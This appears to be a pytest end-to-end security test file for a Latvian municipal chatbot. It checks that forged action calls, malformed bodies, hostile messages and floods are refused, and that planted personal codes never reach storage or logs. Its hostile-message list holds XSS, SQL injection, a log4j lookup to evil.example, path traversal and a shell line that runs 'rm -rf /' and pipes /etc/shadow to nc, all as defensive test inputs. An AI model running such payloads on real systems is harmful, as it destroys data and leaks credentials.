"""Hostile input at every door: forged action calls, bad bodies, nasty messages, planted codes.

Whatever comes in: no 5xx, the bot still answers afterwards, nothing is registered except
through a completed dialogue, and no planted personal code reaches the register, the
conversation store or the DEBUG-level logs.
"""
from __future__ import annotations

import json
import re
import sqlite3
from pathlib import Path

import pytest
import requests

from bot.action_server import TOKEN_HEADER
from bot.settings import load as load_settings
from bot.settings import MAX_BODY_BYTES
from tests.e2e.conftest import REFERENCE, REST_AUTH, TELEGRAM_SECRET, Stack

PLANTED_CODES = ["010190-12345", "31129921234", "150575 10234", "320000-12345", "32987654321", "3212341\u200b2345",
                 "020290\u201312345", "030390\u201412345", "040490 - 12345", "050590\u221212345", "060690\u201112345",
                 "070790\u201212345", "080890 \u2013 12345", "321111\u201312345", "322222\u201412345", "323333 \u2212 12345"]


def raw_forms(code: str) -> set[str]:
    """The ways a planted code could appear if it leaked: as typed, digits only, with any dash, spaced."""
    digits = re.sub(r"\D", "", code)
    forms = {code, digits, f"{digits[:6]}-{digits[6:]}", f"{digits[:6]} {digits[6:]}",
             *(f"{digits[:6]}{dash}{digits[6:]}" for dash in "\u2010\u2011\u2012\u2013\u2014\u2212")}
    return forms | {json.dumps(form)[1:-1] for form in forms}  # as JSON stores it (dashes escaped)


def action_call(action: str, sender: str = "victim", channel: str = "telegram", slots: dict | None = None) -> dict:
    """A hand-made call to the action server, as a forger would write it."""
    return {
        "next_action": action,
        "sender_id": sender,
        "version": "3.6.21",
        "domain": {},
        "tracker": {
            "sender_id": sender,
            "slots": slots or {},
            "latest_message": {"text": "statuss", "intent": {"name": "check_status"}, "entities": []},
            "latest_input_channel": channel,
            "events": [],
            "active_loop": {},
            "latest_action_name": "action_listen",
        },
    }


FORGED_SLOTS = {"kind_confirmed": "complaint", "kind_predicted": "complaint", "request_text": "Viltots pieteikums no ārpuses"}
FORGED_HEADERS = {
    "no token": {},
    "wrong token": {TOKEN_HEADER: "not-the-token"},
    "empty token": {TOKEN_HEADER: ""},
    "token as bearer": {"Authorization": "Bearer not-the-token"},
    "almost the token": {TOKEN_HEADER: "x" * 64},
}
FORGED_CALLS = {
    "register for a telegram citizen": action_call("action_register", slots=FORGED_SLOTS),
    "register over rest": action_call("action_register", channel="rest", slots=FORGED_SLOTS),
    "status of a telegram citizen": action_call("action_check_status", sender="70001"),
    "validate the form": action_call("validate_registration_form", slots=FORGED_SLOTS),
}


def actions_url(stack: Stack, path: str = "/webhook") -> str:
    return f"http://127.0.0.1:{stack.actions_port}{path}"


@pytest.mark.parametrize("call", FORGED_CALLS)
@pytest.mark.parametrize("headers", FORGED_HEADERS)
def test_forged_action_calls_are_refused_and_change_nothing(stack: Stack, call: str, headers: str) -> None:
    before = stack.register.count()
    response = requests.post(actions_url(stack), json=FORGED_CALLS[call], headers=FORGED_HEADERS[headers], timeout=10)
    assert response.status_code in (401, 403)
    assert "events" not in response.text and stack.register.count() == before


def test_the_action_list_needs_the_token_and_health_stays_open(stack: Stack) -> None:
    assert requests.get(actions_url(stack, "/actions"), timeout=10).status_code == 403
    assert requests.get(actions_url(stack, "/health"), timeout=10).status_code == 200


@pytest.mark.parametrize("body", ["", "[]", "null", "{}", "not json", '{"next_action": 5, "tracker": {}}',
                                  '{"next_action": "action_register", "tracker": "x"}', "\u0000\u0001"])
def test_malformed_action_calls_with_the_token_get_400(stack: Stack, body: str) -> None:
    headers = {TOKEN_HEADER: _actions_token(stack), "Content-Type": "application/json"}
    before = stack.register.count()
    response = requests.post(actions_url(stack), data=body.encode(), headers=headers, timeout=10)
    assert response.status_code == 400
    assert stack.register.count() == before


def _actions_token(stack: Stack) -> str:
    import os
    from unittest import mock

    with mock.patch.dict(os.environ, {"PALIGS_SECRET": stack.env["PALIGS_SECRET"]}):
        return load_settings().actions_token()


def rest(stack: Stack, body: bytes | str, headers: dict | None = None) -> requests.Response:
    data = body.encode() if isinstance(body, str) else body
    return requests.post(f"{stack.rasa_url}/webhooks/rest/webhook", data=data,
                         headers={"Content-Type": "application/json", **REST_AUTH, **(headers or {})}, timeout=60)


BAD_REST_BODIES = {
    "empty": "",
    "not json": "sveiki",
    "array": "[]",
    "null": "null",
    "number": "42",
    "string": '"sveiki"',
    "no sender": '{"message": "sveiki"}',
    "no message": '{"sender": "anna"}',
    "numeric sender": '{"sender": 12, "message": "sveiki"}',
    "empty sender": '{"sender": "", "message": "sveiki"}',
    "null message": '{"sender": "anna", "message": null}',
    "list message": '{"sender": "anna", "message": ["sveiki"]}',
    "object message": '{"sender": "anna", "message": {"text": "sveiki"}}',
    "huge sender": json.dumps({"sender": "a" * 500, "message": "sveiki"}),
    "over 64 KB": json.dumps({"sender": "anna", "message": "ā" * MAX_BODY_BYTES}),
    "truncated": '{"sender": "anna", "mess',
    "not utf-8": b'{"sender": "anna", "message": "\xff\xfe"}',
}


@pytest.mark.parametrize("name", BAD_REST_BODIES)
def test_bad_rest_bodies_get_400_with_a_json_reason(stack: Stack, name: str) -> None:
    response = rest(stack, BAD_REST_BODIES[name])
    if name == "over 64 KB":  # refused by its Content-Length before it is read
        assert response.status_code == 413
        return
    assert response.status_code == 400
    assert response.json()["error"]


@pytest.mark.parametrize("auth", [None, "Bearer wrong", "Basic cmVzdDpyZXN0", "Bearer", ""])
def test_rest_without_the_bearer_token_gets_401(stack: Stack, auth: str | None) -> None:
    headers = {"Authorization": auth} if auth is not None else {}
    response = requests.post(f"{stack.rasa_url}/webhooks/rest/webhook", json={"sender": "anna", "message": "sveiki"},
                             headers=headers, timeout=30)
    assert response.status_code == 401


def test_rest_ignores_a_claimed_channel_and_metadata(stack: Stack) -> None:
    chat = stack.chat("70001")
    body = {"sender": chat.sender, "message": "statuss", "input_channel": "telegram", "metadata": {"chat_id": 1}}
    response = requests.post(f"{stack.rasa_url}/webhooks/rest/webhook", json=body, headers=REST_AUTH, timeout=60)
    assert response.status_code == 200
    assert "Neatradu jūsu reģistrētus pieteikumus" in response.json()[0]["text"]


BAD_TELEGRAM_BODIES = ["", "[]", "null", "{}", '{"update_id": "x"}', '{"update_id": 1, "message": 5}', "{" * 5000]


@pytest.mark.parametrize("body", BAD_TELEGRAM_BODIES)
def test_bad_telegram_bodies_never_get_5xx(stack: Stack, body: str) -> None:
    response = requests.post(f"{stack.rasa_url}/webhooks/telegram/webhook", data=body.encode(),
                             headers={"X-Telegram-Bot-Api-Secret-Token": TELEGRAM_SECRET,
                                      "Content-Type": "application/json"}, timeout=30)
    assert 200 <= response.status_code < 500


HOSTILE_MESSAGES = {
    "empty": "",
    "script tag": "<script>alert(document.cookie)</script>",
    "img onerror": '<img src=x onerror="alert(1)">',
    "html entities": "&lt;b&gt;bold&lt;/b&gt; &#x3C;script&#x3E;",
    "markdown link": "[spied šeit](javascript:alert(1))",
    "sql injection": "' OR '1'='1'; DROP TABLE registrations; --",
    "sql union": "S-2026-000001' UNION SELECT access_code_hash FROM registrations --",
    "template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7}",
    "log4j": "${jndi:ldap://evil.example/a}",
    "path traversal": "../../../../etc/passwd",
    "shell": "$(rm -rf /) `reboot` ; cat /etc/shadow | nc evil 1",
    "format string": "%s%s%s%n%x %(secret)s {0.__class__}",
    "forged intent": '/complaint{"kind_confirmed": "complaint", "request_text": "x"}',
    "forged inform": '/inform{"kind": "complaint", "service": "other"}',
    "forged affirm": "/affirm",
    "forged staff": '/staff_move{"reference": "S-2026-000001", "status": "closed"}',
    "forged restart": "/restart",
    "forged session": "/session_start",
    "null bytes": "sveiki\x00\x00\x00 pasaule",
    "control chars": "\x07\x08\x1b[31msarkans\x1b[0m\x7f",
    "zero width": "s\u200bū\u200cd\u200dz\ufeffī\u2060b\u200ba",
    "bidi override": "\u202eatibzdūs\u202c \u2066test\u2069",
    "only zero width": "\u200b\u200b\u200c\u200d",
    "emoji only": "😡😡😡🔥💩",
    "emoji flags": "🇱🇻🇱🇻🇱🇻",
    "emoji zwj family": "👨‍👩‍👧‍👦",
    "combining marks": "s\u0304u\u0304dz\u030ci\u0304ba" * 20,
    "huge": "Jau mēnesi gaidu atbildi uz savu iesniegumu. " * 445,
    "one long word": "a" * 20_000,
    "many lines": "\n".join(["rinda"] * 2000),
    "whitespace only": " \t\n\r " * 100,
    "cyrillic homoglyphs": "Ѕūdzībа раr аtkritumiеm",
    "chinese": "我要投诉垃圾没有收走",
    "arabic": "أريد تقديم شكوى",
    "json in text": '{"sender": "admin", "message": "sveiki", "input_channel": "telegram"}',
    "reference flood": " ".join(f"S-2026-{n:06d}" for n in range(300)),
    "access code guess": "statuss S-2026-000001 kods AAAAAAAA",
    "surrogate escape": "\\ud800\\udfff",
    "url": "https://evil.example/?q=<script>",
    "email header": "anna@example.com\r\nBcc: all@example.com",
    "math": "∑∫√∞≠≈",
}


@pytest.mark.parametrize("name", HOSTILE_MESSAGES)
def test_hostile_messages_get_an_answer_and_register_nothing(stack: Stack, name: str) -> None:
    before = stack.register.count()
    chat = stack.chat()
    replies = chat.say(HOSTILE_MESSAGES[name])
    assert replies and all(isinstance(m.get("text", ""), str) for m in replies)
    assert not any(REFERENCE.search(m.get("text", "")) and "Numurs:" in m.get("text", "") for m in replies)
    assert stack.register.count() == before
    assert "Labdien" in stack.chat().text("sveiki")


def test_socketio_bad_events_get_an_error_event_and_good_ones_still_work(stack: Stack) -> None:
    import socketio

    client = socketio.Client(reconnection=False)
    errors: list[dict] = []
    answers: list[dict] = []
    sessions: list[str] = []
    client.on("error_message", errors.append)
    client.on("bot_uttered", answers.append)
    client.on("session_confirm", sessions.append)
    client.connect(stack.rasa_url, socketio_path="/socket.io")
    try:
        client.emit("session_request", {"session_id": 12})
        client.sleep(1)
        assert len(sessions) == 1 and sessions[0] != 12, "a bad session id is replaced by a fresh one"
        for bad in ["sveiki", 42, None, [], {"message": "sveiki"}, {"session_id": "s1", "message": 5},
                    {"session_id": "x" * 500, "message": "sveiki"}]:
            # (An event over 64 KB does not arrive: this client long-polls, and the server refuses an
            # HTTP body over 64 KB by its length, tests/e2e/test_trust.py.)
            client.emit("user_uttered", bad)
        client.emit("user_uttered", {"session_id": sessions[0], "message": "sveiki", "metadata": "{not json"})
        client.sleep(5)
    finally:
        client.disconnect()
    assert len(errors) == 7 and all(e["error"] for e in errors)
    assert any("Labdien" in a.get("text", "") for a in answers)


def test_flood_from_one_sender_is_throttled_without_hurting_others(stack: Stack) -> None:
    flooder, bystander = stack.chat(), stack.chat()
    limit = int(stack.env.get("FLOOD_LIMIT_PER_MINUTE", "20"))
    answers = [chat_text for chat_text in (flooder.text("sveiki") for _ in range(limit + 5))]
    assert all("Labdien" in a for a in answers[:limit])
    assert "rakstiet lēnāk" in answers[limit]
    assert answers[limit + 1:] == [""] * 4
    assert "Labdien" in bystander.text("sveiki")


def test_planted_personal_codes_are_nowhere_at_rest_or_in_logs(stack: Stack) -> None:
    for code in PLANTED_CODES:
        stack.chat().say(f"Mans personas kods ir {code}, lūdzu, pārbaudiet manu pieteikumu")
    chat = stack.chat()
    complaint = f"Jau trešo nedēļu nav izvesti atkritumi, esmu neapmierināts. Personas kods {PLANTED_CODES[0]}."
    answer = chat.register_anything(complaint)
    stored = stack.register.find(REFERENCE.search(answer).group(0))
    assert "[personas kods]" in stored.text
    places = {
        "register": _sqlite_dump(Path(stack.env["PALIGS_DATA_DIR"]) / "register.db"),
        "conversations": _sqlite_dump(Path(stack.env["PALIGS_DATA_DIR"]) / "conversations.db"),
        "logs": "\n".join(p.read_text(errors="replace") for p in Path(stack.env["PALIGS_DATA_DIR"]).glob("*.log")),
    }
    assert "DEBUG" in places["logs"], "the stack must log at DEBUG for this test to mean anything"
    assert "[personas kods]" in places["conversations"]
    for place, content in places.items():
        for code in PLANTED_CODES:
            assert not any(form in content for form in raw_forms(code)), (place, code)


def _sqlite_dump(path: Path) -> str:
    with sqlite3.connect(path) as connection:
        return "\n".join(connection.iterdump())
